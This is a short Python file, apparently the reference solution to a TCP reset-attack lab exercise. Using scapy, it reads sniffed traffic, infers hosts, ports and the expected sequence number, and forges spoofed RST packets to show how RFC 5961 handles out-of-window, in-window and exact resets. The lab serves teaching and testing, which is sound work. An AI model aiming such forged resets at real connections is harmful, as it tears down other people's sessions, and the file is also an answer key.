"""tcp_reset_attack, reference solution (not handed out by `tcplab exercise start`)."""

from __future__ import annotations

from scapy.layers.inet import IP, TCP


def attack(sniffed: list[bytes]) -> list:
    packets = [IP(raw) for raw in sniffed]
    data = [p for p in packets if TCP in p and len(p[TCP].payload) > 0]  # h1 -> h2
    h1, h2 = data[-1][IP].src, data[-1][IP].dst
    acks = [p for p in packets if TCP in p and p[IP].src == h2 and p[IP].dst == h1]
    last = acks[-1]
    # h2 sends no data, so its sequence number stays where h1's RCV.NXT is
    rcv_nxt = last[TCP].seq
    sport, dport = last[TCP].sport, last[TCP].dport

    def rst(seq: int) -> IP:
        return IP(src=h2, dst=h1) / TCP(sport=sport, dport=dport, flags="R", seq=seq % (1 << 32))

    return [
        rst(rcv_nxt + (1 << 31)),  # outside the window: dropped silently (RFC 5961 §3.2, 1)
        rst(rcv_nxt + 1000),  # inside, not exact: challenge ACK (RFC 5961 §3.2, 3)
        rst(rcv_nxt),  # exact: the connection is reset (RFC 5961 §3.2, 2)
    ]
